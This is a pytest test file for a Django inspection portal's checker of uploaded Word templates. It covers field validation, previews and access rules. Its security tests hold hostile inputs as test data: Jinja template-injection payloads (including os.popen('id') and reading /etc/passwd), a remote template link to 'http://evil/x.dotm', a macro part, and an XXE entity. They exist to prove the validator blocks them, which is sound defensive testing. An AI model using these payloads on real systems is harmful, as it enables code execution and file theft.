"""Word templates that an office brings: read before they are used, explained, used, left."""

import io
import zipfile
from collections.abc import Callable, Sequence
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from docx import Document

from cadres.exports.papers import PaperColumn, PaperRow, PaperTable
from cadres.exports.word import template_path
from cadres.exports.word_check import MOST_BYTES, Checked, check_template
from cadres.exports.word_fields import Field
from cadres.exports.word_parts import WordTable
from cadres.models import ExportRecord, User
from inspections.exports.forms import FORMS, fields_of, make
from inspections.exports.parts import subjects_of
from inspections.models import PaperTemplate
from inspections.selectors.papers import source_of
from tests.inspections.conftest import Scene
from tests.inspections.paper_scene import (
    Written,
    write,
)

Browser = Callable[[User], Client]
FIELDS = (
    Field("kind", "loại"),
    Field("lines", "đoạn", is_list=True),
    Field(
        "topics",
        "nội dung",
        is_list=True,
        of=(Field("title", "tên"), Field("rows", "", is_list=True)),
    ),
    Field("sheet", "bảng", is_table=True),
)
TABLE = WordTable(
    PaperTable(columns=(PaperColumn(key="a", head="A", width=10),), rows=(PaperRow(("<1>",)),))
)
SAMPLE = {
    "kind": "BÁO CÁO & <thử>",
    "lines": ["một", "hai"],
    "topics": [{"title": "Độ tuổi", "rows": ["x"]}],
    "sheet": TABLE,
}


def word(*paragraphs: str, cells: Sequence[Sequence[str]] = ()) -> bytes:
    """A Word file with these paragraphs, and a table."""
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if cells:
        table = document.add_table(rows=0, cols=len(cells[0]))
        for row in cells:
            for cell, text in zip(table.add_row().cells, row, strict=True):
                cell.text = text
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def checked(*paragraphs: str, **more: Any) -> Checked:
    return check_template(word(*paragraphs, **more), FIELDS, SAMPLE)


def problems(*paragraphs: str, **more: Any) -> list[tuple[str, str]]:
    return [(each.place, each.text) for each in checked(*paragraphs, **more).problems]


# ---- What is read ------------------------------------------------------------------------------


def test_a_good_template_says_which_fields_it_uses() -> None:
    found = checked(
        "{{ kind | upper }}",
        "{%p for x in lines %}",
        "- {{ x }}",
        "{%p endfor %}",
        "{%p for x in topics %}",
        "{{ loop.index }}. {{ x.title }} {% if x.rows %}có{% else %}không{% endif %}",
        "{%p endfor %}",
        "{{p sheet }}",
    )
    assert found.problems == []
    assert found.used == ["kind", "lines", "topics", "sheet"]


@pytest.mark.parametrize(
    ("paragraphs", "place", "text"),
    [
        (("Xin chào", "{{ knd }}"), "đoạn 2 “{{ knd }}”", "Có phải là “kind” không?"),
        (("{{ zzz }}",), "đoạn 1 ", "Không có trường “zzz”."),
        (
            ("{%p for x in topics %}", "{{ x.titel }}", "{%p endfor %}"),
            "đoạn 2 ",
            "Có phải là “topics.title” không?",
        ),
        (("{{ lines }}",), "đoạn 1 ", "“lines” là danh sách"),
        (("Bảng: {{ sheet }}",), "đoạn 1 ", "“sheet” là bảng"),
        (("{%p for x in kind %}", "{{ x }}", "{%p endfor %}"), "đoạn 1 ", "không phải là danh"),
        (("{%p for x in lines %}", "{{ x }}"), "", "“endfor”"),
        (("{%p endif %}",), "đoạn 1 ", "“endif” đóng lại một lệnh chưa mở."),
        (("{{ kind }",), "", "xem lại dấu"),
        (("{%p set x = 1 %}",), "đoạn 1 ", "Không dùng được"),
    ],
)
def test_what_is_wrong_is_said_with_its_place(
    paragraphs: tuple[str, ...], place: str, text: str
) -> None:
    found = problems(*paragraphs)
    assert found
    assert any(where.startswith(place) and text in said for where, said in found), found


def test_all_problems_are_told_at_once() -> None:
    assert len(problems("{{ a1 }}", "{{ b1 }}", "{{ lines }}")) == 3


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ kind.__class__ }}",
        "{{ kind.__init__.__globals__ }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lines.append('x') }}",
        "{{ 'a' * 999999999 }}",
        "{% for x in range(999999999) %}{{ x }}{% endfor %}",
        "{% include '/etc/passwd' %}",
        "{{ kind | attr('__class__') }}",
        "{{ self._TemplateReference__context }}",
    ],
)
def test_a_template_reaches_nothing_but_its_fields(attack: str) -> None:
    assert problems(attack)


def test_a_broken_structure_is_found_by_trying() -> None:
    found = problems("{% for x in lines %}", cells=[["{{ x }}{% endfor %}"]])
    assert [text for _place, text in found if "văn bản hỏng" in text]


@pytest.mark.parametrize(
    ("body", "text"),
    [
        (b"%PDF-1.4", "không phải là tệp Word"),
        (b"PK\x03\x04 broken", "không phải là tệp Word"),
        (b"x" * (MOST_BYTES + 1), "nặng hơn 5 MB"),
    ],
)
def test_what_is_no_word_file(body: bytes, text: str) -> None:
    (problem,) = check_template(body, FIELDS, SAMPLE).problems
    assert text in problem.text


def changed(body: bytes, name: str, content: str) -> bytes:
    """The file with one part added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as old, zipfile.ZipFile(out, "w") as new:
        for part in old.namelist():
            if part != name:
                new.writestr(part, old.read(part))
        new.writestr(name, content)
    return out.getvalue()


def test_templates_neither_run_nor_fetch_anything() -> None:
    body = word("{{ kind }}")
    (problem,) = check_template(changed(body, "word/vbaProject.bin", "x"), FIELDS, SAMPLE).problems
    assert "macro" in problem.text
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    (problem,) = check_template(
        changed(body, "word/_rels/settings.xml.rels", relations), FIELDS, SAMPLE
    ).problems
    assert "tệp ở ngoài" in problem.text
    with zipfile.ZipFile(io.BytesIO(body)) as package:
        document = package.read("word/document.xml").decode()
    entity = document.replace("?>", '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
    bomb = changed(body, "word/document.xml", entity.replace("{{ kind }}", "&e;"))
    found = check_template(bomb, FIELDS, SAMPLE)
    assert "root:" not in str(found)


def test_our_own_templates_pass(scene: Scene) -> None:
    written = write(scene)
    source = source_of(scene.officer, written.inspection)
    for form in FORMS:
        sample = next(subjects_of(form, source), None)
        if sample is not None:
            body = template_path(f"{form.template}.docx").read_bytes()
            assert check_template(body, fields_of(form), make(form, sample).fields).problems == []


# ---- The page ----------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _media(settings: Any, tmp_path: Any) -> None:
    settings.MEDIA_ROOT = tmp_path


def address(written: Written, name: str = "document-template", *more: Any) -> str:
    return reverse(f"inspections:{name}", args=[written.inspection.pk, "kt8", *more])


def upload(body: bytes, name: str = "Mẫu báo cáo.docx") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, body)


def paragraphs_of(written: Written, browser: Client) -> list[str]:
    made = browser.post(address(written, "document-file"), {"dinh-dang": "docx"})
    return [p.text for p in Document(io.BytesIO(made.content)).paragraphs]


def test_an_office_uses_its_own_template_and_goes_back(
    written: Written, signed_in: Browser
) -> None:
    browser = signed_in(written.scene.officer)
    page = browser.get(address(written)).content.decode()
    assert "đang dùng mẫu có sẵn" in page
    assert "{{ decision_no }}" in page
    assert "Đánh giá chung" in page
    own = browser.get(address(written, "document-template-file"))
    assert b"".join(own.streaming_content)[:2] == b"PK"
    answer = browser.post(address(written), {"upload": upload(word("Mẫu của tỉnh: {{ about }}"))})
    assert answer.status_code == 302
    assert paragraphs_of(written, browser) == ["Mẫu của tỉnh: kết quả kiểm tra công tác quy hoạch"]
    # PDF keeps the portal's own layout.
    pdf = browser.post(address(written, "document-file"), {"dinh-dang": "pdf"})
    assert pdf.content.startswith(b"%PDF")
    first = PaperTemplate.objects.get()
    browser.post(address(written), {"upload": upload(word("Bản hai {{ kind }}"))})
    assert paragraphs_of(written, browser) == ["Bản hai BÁO CÁO"]
    browser.post(address(written, "document-template-use", first.pk))
    assert paragraphs_of(written, browser)[0].startswith("Mẫu của tỉnh")
    kept = browser.get(address(written, "document-template-file") + f"?ban={first.pk}")
    assert b"".join(kept.streaming_content) == word("Mẫu của tỉnh: {{ about }}") or first.sha256
    assert ExportRecord.objects.latest("pk").what == "inspection-template"
    browser.post(address(written, "document-template-leave"))
    assert "I- KẾT QUẢ KIỂM TRA" in paragraphs_of(written, browser)
    assert list(PaperTemplate.objects.values_list("is_used", flat=True)) == [False, False]


def test_a_bad_template_is_explained_and_not_kept(written: Written, signed_in: Browser) -> None:
    browser = signed_in(written.scene.officer)
    page = browser.post(address(written), {"upload": upload(word("Kính gửi", "{{ decidr }}"))})
    assert page.status_code == 422
    text = page.content.decode()
    assert "đoạn 2 “{{ decidr }}”" in text
    assert "Có phải là “decider” không?" in text
    assert not PaperTemplate.objects.exists()
    assert browser.post(address(written), {}).status_code == 422


def test_a_template_is_tried_out_without_being_kept(written: Written, signed_in: Browser) -> None:
    browser = signed_in(written.scene.officer)
    body = word("Trích yếu: {{ about }}", "{{p comparison }}")
    page = browser.post(address(written), {"upload": upload(body), "viec": "xem"})
    assert page.status_code == 200
    text = page.content.decode()
    assert "Trích yếu: kết quả kiểm tra" in text
    assert "Mẫu dùng các trường: about, comparison." in text
    assert "Rà soát hằng năm" in text
    made = browser.post(address(written), {"upload": upload(body), "viec": "tai"})
    assert made.content[:2] == b"PK"
    assert not PaperTemplate.objects.exists()


def test_templates_are_of_the_issuing_unit(
    written: Written, signed_in: Browser, approver: User, unit_officer: User
) -> None:
    for user, status in (
        (written.scene.lead, 403),
        (approver, 403),
        (unit_officer, 404),
        (written.scene.outsider, 404),
    ):
        browser = signed_in(user)
        assert browser.get(address(written)).status_code == status
        sent = {"upload": upload(word("{{ kind }}"))}
        assert browser.post(address(written), sent).status_code == status
        assert browser.get(address(written, "document-template-file")).status_code == status
        assert browser.post(address(written, "document-template-leave")).status_code == status
    assert not PaperTemplate.objects.exists()


def test_the_folder_of_the_office_still_counts(
    written: Written, signed_in: Browser, settings: Any, tmp_path: Any
) -> None:
    (tmp_path / "inspection_kt8.docx").write_bytes(word("Từ thư mục: {{ kind }}"))
    settings.DOCUMENT_TEMPLATES = str(tmp_path)
    assert paragraphs_of(written, signed_in(written.scene.officer)) == ["Từ thư mục: BÁO CÁO"]
